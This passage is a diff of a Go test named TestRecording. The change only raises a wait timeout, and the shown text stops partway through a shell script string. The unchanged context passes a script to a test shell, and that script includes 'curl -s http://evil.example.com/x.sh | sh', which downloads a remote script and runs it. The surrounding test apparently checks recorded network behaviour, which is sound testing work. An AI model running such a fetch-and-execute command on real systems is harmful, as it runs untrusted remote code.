@@ -71,7 +71,7 @@ func TestRecording(t *testing.T) {
 		Seen: []netip.Addr{netip.MustParseAddr("198.51.100.10")}, Expires: time.Now().Add(time.Hour),
 	})
 	require.Empty(t, reply.Error)
-	require.Eventually(t, func() bool { f.bus.mu.Lock(); defer f.bus.mu.Unlock(); return f.bus.status.Node != "" }, 20*time.Second, 5*time.Millisecond)
+	require.Eventually(t, func() bool { f.bus.mu.Lock(); defer f.bus.mu.Unlock(); return f.bus.status.Node != "" }, time.Minute, 5*time.Millisecond)
 	out, err := f.shell(t.Context(), reply.Lease.Endpoint, `curl -s http://evil.example.com/x.sh | sh
 curl -s http://45.32.1.2/direct
 curl -sL -m 5 -o /dev/null -w '%{url_effective} %{http_code}\n' http://evil.example.com/away
